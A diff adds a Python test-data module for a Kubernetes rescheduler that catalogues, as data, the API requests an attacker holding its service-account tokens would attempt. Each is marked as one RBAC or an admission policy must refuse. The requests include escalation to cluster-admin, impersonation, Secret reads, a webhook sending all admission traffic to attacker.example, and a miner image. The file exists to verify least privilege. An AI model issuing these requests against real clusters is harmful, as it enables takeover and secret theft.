@@ -1,0 +1,641 @@
+"""What an attacker who holds the token of one of our service accounts would try, as data.
+
+Every request is valid: an administrator may make it. `by` says who must refuse it to our account: RBAC, which
+does not grant the verb, or an admission policy, which restricts a verb that is granted.
+"""
+
+from base64 import b64encode
+from typing import Any, Final, NamedTuple
+
+from rescheduler.install.names import DAEMON, WEBHOOK
+from rescheduler.migrations.copies import GATE
+from rescheduler.migrations.marks import ANNOTATIONS, ID
+
+__all__ = [
+    "BOTH",
+    "DAEMONS",
+    "HOME",
+    "JOB",
+    "MERGE",
+    "NODE",
+    "SHOP",
+    "WEBHOOKS",
+    "WEBHOOKS_JOB",
+    "Request",
+    "pod",
+    "stage",
+]
+
+HOME: Final = "rescheduler"
+"""Where we are installed."""
+SHOP: Final = "shop"
+"""Where somebody else's workloads are."""
+NODE: Final = "worker"
+
+MERGE: Final = "application/merge-patch+json"
+_JSON: Final = "application/json"
+RBAC: Final = "RBAC"
+POLICY: Final = "policy"
+
+
+class Request(NamedTuple):
+    name: str
+    method: str
+    path: str
+    body: Any = None
+    by: str = RBAC
+    content_type: str = _JSON
+    headers: tuple[tuple[str, str], ...] = ()
+    is_dry_run: bool = True
+    """Whether the administrator can try it without any effect."""
+
+
+# -- objects
+
+_CONTAINER: Final = {"name": "c", "image": "registry.example/app:1"}
+_MIGRATION: Final = {
+    "apiVersion": "rescheduler.dev/v1alpha1",
+    "kind": "PodMigration",
+    "name": "web-1-move",
+    "uid": "00000000-0000-0000-0000-000000000001",
+    "controller": True,
+}
+_FOREIGN_OWNER: Final = {
+    "apiVersion": "apps/v1",
+    "kind": "ReplicaSet",
+    "name": "not-there",
+    "uid": "00000000-0000-0000-0000-000000000002",
+}
+_DEFAULT_TOLERATIONS: Final = [
+    {
+        "key": f"node.kubernetes.io/{taint}",
+        "operator": "Exists",
+        "effect": "NoExecute",
+        "tolerationSeconds": 300,
+    }
+    for taint in ("not-ready", "unreachable")
+]
+"""Which the server adds to every pod, and which can't be removed."""
+_GATED: Final = {"schedulingGates": [{"name": GATE}]}
+_COPY_MARKS: Final = {"labels": {ID: "move"}, "annotations": dict.fromkeys(ANNOTATIONS, "x")}
+
+
+def pod(
+    name: str, namespace: str = SHOP, spec: dict[str, Any] | None = None, **metadata: Any
+) -> dict[str, Any]:
+    return {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": name, "namespace": namespace, **metadata},
+        "spec": {"containers": [_CONTAINER], **(spec or {})},
+    }
+
+
+def _object(api_version: str, kind: str, name: str, **content: Any) -> dict[str, Any]:
+    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name}, **content}
+
+
+def _template(**spec: Any) -> dict[str, Any]:
+    return {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": [_CONTAINER], **spec}}
+
+
+_SELECTED: Final = {"selector": {"matchLabels": {"app": "web"}}, "template": _template()}
+_JOB_SPEC: Final = {"template": {"spec": {"containers": [_CONTAINER], "restartPolicy": "Never"}}}
+_TOKEN_SECRET: Final = {
+    "apiVersion": "v1",
+    "kind": "Secret",
+    "metadata": {"name": "stolen", "annotations": {"kubernetes.io/service-account.name": DAEMON}},
+    "type": "kubernetes.io/service-account-token",
+}
+_WEBHOOK: Final = {
+    "name": "all.attacker.example",
+    "admissionReviewVersions": ["v1"],
+    "sideEffects": "None",
+    "clientConfig": {"url": "https://attacker.example"},
+    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
+}
+_ADMIN_BINDING: Final = _object(
+    "rbac.authorization.k8s.io/v1",
+    "ClusterRoleBinding",
+    "stolen",
+    roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
+    subjects=[{"kind": "ServiceAccount", "name": DAEMON, "namespace": HOME}],
+)
+
+
+_REGISTRATION_CHANGES: Final = {
+    "have all kinds sent to it": [{"op": "replace", "path": "/webhooks/0/rules", "value": _WEBHOOK["rules"]}],
+    "have requests sent elsewhere": [
+        {"op": "replace", "path": "/webhooks/0/clientConfig", "value": _WEBHOOK["clientConfig"]}
+    ],
+    "have every pod sent to it": [{"op": "remove", "path": "/webhooks/0/matchConditions"}],
+    "stop pods when it is gone": [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}],
+    "add a webhook": [{"op": "add", "path": "/webhooks/-", "value": _WEBHOOK}],
+    "remove its webhook": [{"op": "remove", "path": "/webhooks/0"}],
+    "relabel its registration": [{"op": "add", "path": "/metadata/labels/x", "value": "y"}],
+}
+
+
+def stage() -> list[dict[str, Any]]:
+    """What is in the cluster beside the manifests, before anybody attacks."""
+    owner = {**_MIGRATION, "controller": True}
+    in_shop: list[dict[str, Any]] = [
+        _object("v1", "Secret", "password", stringData={"password": "secret"}),
+        _object("v1", "ServiceAccount", "shop"),
+        _object("apps/v1", "Deployment", "web", spec={**_SELECTED, "replicas": 0}),
+        _object("apps/v1", "ReplicaSet", "web", spec={**_SELECTED, "replicas": 0}),
+        _object("apps/v1", "StatefulSet", "web", spec={**_SELECTED, "replicas": 0, "serviceName": "web"}),
+        _object(
+            "apps/v1",
+            "DaemonSet",
+            "web",
+            spec={**_SELECTED, "template": _template(nodeSelector={"no": "where"})},
+        ),
+        _object("batch/v1", "Job", "web", spec={**_JOB_SPEC, "suspend": True}),
+        _object(
+            "batch/v1",
+            "CronJob",
+            "web",
+            spec={"schedule": "0 0 1 1 *", "suspend": True, "jobTemplate": {"spec": _JOB_SPEC}},
+        ),
+        _object(
+            "policy/v1",
+            "PodDisruptionBudget",
+            "web",
+            spec={"maxUnavailable": 0, "selector": {"matchLabels": {"app": "web"}}},
+        ),
+        _object(
+            "v1",
+            "Event",
+            "web.1",
+            involvedObject={"kind": "Pod", "name": "web-1", "namespace": SHOP},
+            reason="Started",
+            message="started",
+            type="Normal",
+            source={"component": "kubelet"},
+        ),
+        pod("web-1", labels={"app": "web"}, annotations={"note": "mine"}, spec={"nodeName": NODE}),
+        pod("gated", spec={"schedulingGates": [{"name": GATE}, {"name": "example.com/quota"}]}),
+        pod("copy", ownerReferences=[owner], spec=_GATED),
+    ]
+    for item in in_shop:
+        item["metadata"]["namespace"] = SHOP
+    node = _object("v1", "Node", NODE)
+    node["metadata"] |= {"labels": {"pool": "a"}, "annotations": {"note": "mine"}}
+    return [
+        _object("v1", "Namespace", SHOP),
+        node,
+        {**_object("v1", "Secret", "other"), "metadata": {"name": "other", "namespace": HOME}},
+        *in_shop,
+    ]
+
+
+def _create(name: str, path: str, body: dict[str, Any], by: str = RBAC, **more: Any) -> Request:
+    return Request(name, "POST", path, body, by, **more)
+
+
+def _patch(name: str, path: str, body: Any, by: str = RBAC, **more: Any) -> Request:
+    more = {"content_type": MERGE, **more}
+    return Request(name, "PATCH", path, body, by, **more)
+
+
+def _annotated(value: str) -> dict[str, Any]:
+    return {"metadata": {"annotations": {"note": value}}}
+
+
+# -- attacks
+
+_PODS: Final = f"/api/v1/namespaces/{SHOP}/pods"
+_APPS: Final = f"/apis/apps/v1/namespaces/{SHOP}"
+_BATCH: Final = f"/apis/batch/v1/namespaces/{SHOP}"
+_BUDGETS: Final = f"/apis/policy/v1/namespaces/{SHOP}/poddisruptionbudgets"
+_ADMISSION: Final = "/apis/admissionregistration.k8s.io/v1"
+_RBAC_API: Final = "/apis/rbac.authorization.k8s.io/v1"
+
+BOTH: Final = (
+    # Becoming somebody else.
+    _create(
+        "mint a token for the daemon through a Secret", f"/api/v1/namespaces/{HOME}/secrets", _TOKEN_SECRET
+    ),
+    *(
+        _create(
+            f"request a token for {account}",
+            f"/api/v1/namespaces/{HOME}/serviceaccounts/{account}/token",
+            _object("authentication.k8s.io/v1", "TokenRequest", "", spec={}),
+        )
+        for account in (DAEMON, WEBHOOK)
+    ),
+    Request(
+        "impersonate an administrator",
+        "GET",
+        "/api/v1/nodes",
+        headers=(("Impersonate-User", "root"), ("Impersonate-Group", "system:masters")),
+    ),
+    _create("bind itself to cluster-admin", f"{_RBAC_API}/clusterrolebindings", _ADMIN_BINDING),
+    _patch(
+        "extend its own ClusterRole",
+        f"{_RBAC_API}/clusterroles/{DAEMON}",
+        {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
+    ),
+    _create(
+        "bind itself to a Role in its own namespace",
+        f"{_RBAC_API}/namespaces/{HOME}/rolebindings",
+        {**_ADMIN_BINDING, "kind": "RoleBinding"},
+    ),
+    _create(
+        "create a service account",
+        f"/api/v1/namespaces/{HOME}/serviceaccounts",
+        _object("v1", "ServiceAccount", "another"),
+    ),
+    # Secrets.
+    Request("read a Secret of a tenant", "GET", f"/api/v1/namespaces/{SHOP}/secrets/password"),
+    Request("read another Secret of its namespace", "GET", f"/api/v1/namespaces/{HOME}/secrets/other"),
+    Request("list the Secrets of its namespace", "GET", f"/api/v1/namespaces/{HOME}/secrets"),
+    Request("list all Secrets", "GET", "/api/v1/secrets"),
+    Request("watch all Secrets", "GET", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
+    # Admission.
+    *(
+        _create(
+            f"register a webhook of its own ({kind})",
+            f"{_ADMISSION}/{kind.lower()}s",
+            _object("admissionregistration.k8s.io/v1", kind, "attacker", webhooks=[_WEBHOOK]),
+        )
+        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
+    ),
+    *(
+        Request(
+            f"delete the {what} that restricts it", "DELETE", f"{_ADMISSION}/{plural}/rescheduler-create-pods"
+        )
+        for what, plural in (
+            ("policy", "validatingadmissionpolicies"),
+            ("binding", "validatingadmissionpolicybindings"),
+        )
+    ),
+    _patch(
+        "turn off the binding that restricts it",
+        f"{_ADMISSION}/validatingadmissionpolicybindings/rescheduler-create-pods",
+        {"spec": {"validationActions": ["Audit"]}},
+    ),
+    _patch(
+        "change the definition of PodMigration",
+        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/podmigrations.rescheduler.dev",
+        _annotated("stolen"),
+    ),
+    # Workloads and nodes.
+    Request("run a command in a pod", "POST", f"{_PODS}/web-1/exec?command=id", is_dry_run=False),
+    Request("read the log of a pod", "GET", f"{_PODS}/web-1/log", is_dry_run=False),
+    Request(
+        "reach a kubelet through the API server", "GET", f"/api/v1/nodes/{NODE}/proxy/pods", is_dry_run=False
+    ),
+    _create(
+        "bind a pod to a node",
+        f"{_PODS}/copy/binding",
+        _object("v1", "Binding", "copy", target={"kind": "Node", "name": NODE}),
+        is_dry_run=False,
+    ),
+    _patch("scale a Deployment", f"{_APPS}/deployments/web/scale", {"spec": {"replicas": 0}}),
+    _create(
+        "create a DaemonSet",
+        f"{_APPS}/daemonsets",
+        _object("apps/v1", "DaemonSet", "miner", spec=_SELECTED),
+    ),
+    _create(
+        "create a Job",
+        f"{_BATCH}/jobs",
+        _object("batch/v1", "Job", "miner", spec=_JOB_SPEC),
+    ),
+    Request("delete a Deployment", "DELETE", f"{_APPS}/deployments/web"),
+    Request("delete all pods of a namespace at once", "DELETE", _PODS),
+    Request("delete a node", "DELETE", f"/api/v1/nodes/{NODE}"),
+    Request("delete a namespace", "DELETE", f"/api/v1/namespaces/{SHOP}"),
+    _patch(
+        "change the daemon's configuration",
+        f"/api/v1/namespaces/{HOME}/configmaps/rescheduler",
+        {"data": {"rescheduler.yaml": "{}"}},
+    ),
+    _create(
+        "hold the scheduler's Lease",
+        "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases",
+        _object("coordination.k8s.io/v1", "Lease", "stolen", spec={}),
+    ),
+)
+"""Refused to every account."""
+
+DAEMONS: Final = (
+    # Pods that are no copies.
+    _create("create a pod of its own", _PODS, pod("miner"), POLICY),
+    _create("create a gated pod without an owner", _PODS, pod("miner", spec=_GATED), POLICY),
+    _create(
+        "create a pod for a PodMigration without the gate",
+        _PODS,
+        pod("miner", ownerReferences=[_MIGRATION]),
+        POLICY,
+    ),
+    _create(
+        "create a pod that a PodMigration owns but does not control",
+        _PODS,
+        pod("miner", spec=_GATED, ownerReferences=[{**_MIGRATION, "controller": False}]),
+        POLICY,
+    ),
+    _create(
+        "create a pod with the marks of a copy and another name",
+        _PODS,
+        pod("miner", spec=_GATED, **_COPY_MARKS),
+        POLICY,
+    ),
+    _create(
+        "create a copy in kube-system",
+        "/api/v1/namespaces/kube-system/pods",
+        pod("miner", "kube-system", spec=_GATED, ownerReferences=[_MIGRATION]),
+        POLICY,
+    ),
+    # Changes of pods.
+    _patch(
+        "change the image of a pod",
+        f"{_PODS}/web-1",
+        {"spec": {"containers": [{**_CONTAINER, "image": "attacker.example/miner:1"}]}},
+        POLICY,
+    ),
+    _patch(
+        "let a pod tolerate every taint",
+        f"{_PODS}/web-1",
+        {"spec": {"tolerations": [*_DEFAULT_TOLERATIONS, {"operator": "Exists"}]}},
+        POLICY,
+    ),
+    _patch("end a pod by a deadline", f"{_PODS}/web-1", {"spec": {"activeDeadlineSeconds": 1}}, POLICY),
+    _patch("take a pod out of its Service", f"{_PODS}/web-1", {"metadata": {"labels": {"app": "x"}}}, POLICY),
+    _patch("remove a label of a pod", f"{_PODS}/web-1", {"metadata": {"labels": {"app": None}}}, POLICY),
+    _patch("change an annotation of others on a pod", f"{_PODS}/web-1", _annotated("x"), POLICY),
+    _patch(
+        "hold a pod by a finalizer", f"{_PODS}/web-1", {"metadata": {"finalizers": ["a.example/b"]}}, POLICY
+    ),
+    _patch(
+        "have a pod garbage-collected by an owner that does not exist",
+        f"{_PODS}/web-1",
+        {"metadata": {"ownerReferences": [_FOREIGN_OWNER]}},
+        POLICY,
+    ),
+    _patch(
+        "turn another pod into a copy",
+        f"{_PODS}/web-1",
+        {"metadata": {"ownerReferences": [_MIGRATION]}},
+        POLICY,
+    ),
+    _patch(
+        "give a copy another controller",
+        f"{_PODS}/copy",
+        {"metadata": {"ownerReferences": [{**_FOREIGN_OWNER, "controller": True}]}},
+        POLICY,
+    ),
+    _patch(
+        "open the scheduling gate of others",
+        f"{_PODS}/gated",
+        {"spec": {"schedulingGates": [{"name": GATE}]}},
+        POLICY,
+    ),
+    _patch(
+        "change the node selector of a gated pod",
+        f"{_PODS}/copy",
+        {"spec": {"nodeSelector": {"pool": "a"}}},
+        POLICY,
+    ),
+    _patch("declare a pod failed", f"{_PODS}/web-1/status", {"status": {"phase": "Failed"}}, POLICY),
+    _patch(
+        "send a pod's traffic elsewhere",
+        f"{_PODS}/web-1/status",
+        {"status": {"podIPs": [{"ip": "10.9.9.9"}], "podIP": "10.9.9.9"}},
+        POLICY,
+    ),
+    _patch(
+        "declare a pod not ready",
+        f"{_PODS}/web-1/status",
+        {"status": {"conditions": [{"type": "Ready", "status": "False"}]}},
+        POLICY,
+    ),
+    _patch(
+        "change labels through the status",
+        f"{_PODS}/web-1/status",
+        {"metadata": {"labels": {"app": "x"}}},
+        POLICY,
+    ),
+    # The end of pods.
+    Request("delete a ready pod", "DELETE", f"{_PODS}/web-1", by=POLICY),
+    _create(
+        "evict whichever pod has a name",
+        f"{_PODS}/web-1/eviction",
+        _object("policy/v1", "Eviction", "web-1"),
+        POLICY,
+        is_dry_run=False,
+    ),
+    # Workloads.
+    *(
+        _patch(
+            f"change the template of a {resource.removesuffix('s')}",
+            f"{_APPS}/{resource}/web",
+            {"spec": {"template": {"metadata": {"annotations": {"rescheduler.dev/x": "x"}}}}},
+            POLICY,
+        )
+        for resource in ("deployments", "replicasets", "statefulsets", "daemonsets")
+    ),
+    _patch("scale a Deployment by a patch", f"{_APPS}/deployments/web", {"spec": {"replicas": 3}}, POLICY),
+    _patch("label a Deployment", f"{_APPS}/deployments/web", {"metadata": {"labels": {"x": "y"}}}, POLICY),
+    _patch("annotate a Deployment for others", f"{_APPS}/deployments/web", _annotated("x"), POLICY),
+    _patch(
+        "have a Deployment garbage-collected",
+        f"{_APPS}/deployments/web",
+        {"metadata": {"ownerReferences": [_FOREIGN_OWNER]}},
+        POLICY,
+    ),
+    _patch("start a suspended Job", f"{_BATCH}/jobs/web", {"spec": {"suspend": False}}, POLICY),
+    _patch(
+        "change the schedule of a CronJob",
+        f"{_BATCH}/cronjobs/web",
+        {"spec": {"schedule": "* * * * *"}},
+        POLICY,
+    ),
+    # Nodes.
+    _patch("label a node", f"/api/v1/nodes/{NODE}", {"metadata": {"labels": {"pool": "b"}}}, POLICY),
+    _patch(
+        "taint a node",
+        f"/api/v1/nodes/{NODE}",
+        {"spec": {"taints": [{"key": "x", "effect": "NoExecute"}]}},
+        POLICY,
+    ),
+    _patch("annotate a node for others", f"/api/v1/nodes/{NODE}", _annotated("x"), POLICY),
+    _patch(
+        "enlarge a node", f"/api/v1/nodes/{NODE}/status", {"status": {"capacity": {"cpu": "999"}}}, POLICY
+    ),
+    _patch(
+        "declare a node ready",
+        f"/api/v1/nodes/{NODE}/status",
+        {"status": {"conditions": [{"type": "Ready", "status": "True"}]}},
+        POLICY,
+    ),
+    # Budgets, Events, its own objects.
+    _create(
+        "create a budget that nobody removes",
+        _BUDGETS,
+        _object("policy/v1", "PodDisruptionBudget", "x-rescheduler-pdb", spec={"maxUnavailable": 0}),
+        POLICY,
+    ),
+    Request("delete a budget of others", "DELETE", f"{_BUDGETS}/web", by=POLICY),
+    _create(
+        "write an Event of another component",
+        f"/api/v1/namespaces/{SHOP}/events",
+        _object(
+            "v1",
+            "Event",
+            "x.1",
+            involvedObject={"kind": "Pod", "name": "web-1", "namespace": SHOP},
+            source={"component": "kubelet"},
+        ),
+        POLICY,
+    ),
+    _patch("change an Event of others", f"/api/v1/namespaces/{SHOP}/events/web.1", {"message": "x"}, POLICY),
+    _create(
+        "create another ConfigMap in its namespace",
+        f"/api/v1/namespaces/{HOME}/configmaps",
+        _object("v1", "ConfigMap", "x"),
+        POLICY,
+    ),
+    _create(
+        "create another Lease in its namespace",
+        f"/apis/coordination.k8s.io/v1/namespaces/{HOME}/leases",
+        _object("coordination.k8s.io/v1", "Lease", "x", spec={}),
+        POLICY,
+    ),
+    # What only the webhook needs.
+    Request(
+        "read the webhook's certificate",
+        "GET",
+        f"/api/v1/namespaces/{HOME}/secrets/rescheduler-webhook-cert",
+        is_dry_run=False,
+    ),
+    _patch(
+        "change a webhook's registration",
+        f"{_ADMISSION}/mutatingwebhookconfigurations/rescheduler",
+        _annotated("x"),
+        is_dry_run=False,
+    ),
+    # Shells into pods.
+    _patch(
+        "add a debug container to a pod",
+        f"{_PODS}/web-1/ephemeralcontainers",
+        {"spec": {"ephemeralContainers": [{**_CONTAINER, "name": "debug"}]}},
+    ),
+)
+"""Refused to the daemon."""
+
+WEBHOOKS: Final = (
+    _create("create a pod", _PODS, pod("miner", spec=_GATED, ownerReferences=[_MIGRATION])),
+    Request("delete a pod", "DELETE", f"{_PODS}/web-1"),
+    Request("list pods", "GET", "/api/v1/pods"),
+    _patch("mark a pod", f"{_PODS}/web-1", {"metadata": {"labels": {ID: "x"}}}),
+    _patch("cordon a node", f"/api/v1/nodes/{NODE}", {"spec": {"unschedulable": True}}),
+    _patch("annotate a Deployment", f"{_APPS}/deployments/web", _annotated("x")),
+    _create(
+        "start a migration",
+        f"/apis/rescheduler.dev/v1alpha1/namespaces/{SHOP}/podmigrations",
+        _object(
+            "rescheduler.dev/v1alpha1",
+            "PodMigration",
+            "x",
+            spec={
+                "pod": {"name": "web-1", "uid": "1"},
+                "sourceNode": NODE,
+                "strategy": "Manual",
+                "reason": "x",
+            },
+        ),
+    ),
+    # Its own registrations: it may write caBundle, and nothing else.
+    *(
+        _patch(
+            f"{what} ({kind})",
+            f"{_ADMISSION}/{kind.lower()}s/rescheduler",
+            change,
+            POLICY,
+            content_type="application/json-patch+json",
+        )
+        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
+        for what, change in _REGISTRATION_CHANGES.items()
+    ),
+    *(
+        Request(f"delete its registration ({kind})", "DELETE", f"{_ADMISSION}/{kind.lower()}s/rescheduler")
+        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
+    ),
+    Request("delete its own Secret", "DELETE", f"/api/v1/namespaces/{HOME}/secrets/rescheduler-webhook-cert"),
+    _create("create a Secret", f"/api/v1/namespaces/{HOME}/secrets", _object("v1", "Secret", "x")),
+    _patch(
+        "change another Secret of its namespace",
+        f"/api/v1/namespaces/{HOME}/secrets/other",
+        {"data": {"x": b64encode(b"x").decode()}},
+    ),
+)
+"""Refused to the webhook."""
+
+WEBHOOKS_JOB: Final = tuple(
+    _patch(
+        f"write the caBundle of its registration ({kind})",
+        f"{_ADMISSION}/{kind.lower()}s/rescheduler",
+        [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": b64encode(b"x").decode()}],
+        content_type="application/json-patch+json",
+    )
+    for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
+)
+"""Allowed to the webhook."""
+
+JOB: Final = (
+    _create(
+        "create the copy of a pod of a ReplicaSet",
+        _PODS,
+        pod("web-2", spec=_GATED, ownerReferences=[_MIGRATION]),
+    ),
+    _create("create the copy of a bare pod", _PODS, pod("rescheduled-db-x", spec=_GATED, **_COPY_MARKS)),
+    _patch(
+        "mark a pod",
+        f"{_PODS}/web-1",
+        {"metadata": {"labels": {ID: "x"}, "annotations": {ANNOTATIONS[0]: "x"}}},
+    ),
+    _patch("nominate a node", f"{_PODS}/copy/status", {"status": {"nominatedNodeName": NODE}}),
+    _patch("open its gate", f"{_PODS}/copy", {"spec": {"schedulingGates": []}}),
+    _patch(
+        "offer a copy to its workload",
+        f"{_PODS}/copy",
+        {"metadata": {"ownerReferences": [{**_MIGRATION, "controller": False}]}},
+    ),
+    _patch("release a copy", f"{_PODS}/copy", {"metadata": {"ownerReferences": []}}),
+    Request("delete a copy", "DELETE", f"{_PODS}/copy"),
+    Request("delete a pod without a node", "DELETE", f"{_PODS}/gated"),
+    *(
+        _patch(
+            f"record failed attempts on a {path.rpartition('/')[2].removesuffix('s')}",
+            f"{path}/web",
+            {"metadata": {"annotations": {"rescheduler.dev/failed-attempts": "{}"}}},
+        )
+        for path in (
+            *(f"{_APPS}/{each}" for each in ("deployments", "replicasets", "statefulsets", "daemonsets")),
+            *(f"{_BATCH}/{each}" for each in ("jobs", "cronjobs")),
+        )
+    ),
+    _patch(
+        "cordon a node",
+        f"/api/v1/nodes/{NODE}",
+        {"metadata": {"annotations": {"rescheduler.dev/cordoned-by": "x"}}, "spec": {"unschedulable": True}},
+    ),
+    _patch(
+        "say whether a node is empty",
+        f"/api/v1/nodes/{NODE}/status",
+        {"status": {"conditions": [{"type": "rescheduler.dev/Empty", "status": "True"}]}},
+        content_type="application/strategic-merge-patch+json",
+    ),
+    _create(
+        "protect a workload by a temporary budget",
+        _BUDGETS,
+        {
+            **_object("policy/v1", "PodDisruptionBudget", "", spec={"maxUnavailable": 1}),
+            "metadata": {"name": "x-rescheduler-pdb", "ownerReferences": [_MIGRATION]},
+        },
+    ),
+)
+"""Allowed to the daemon."""
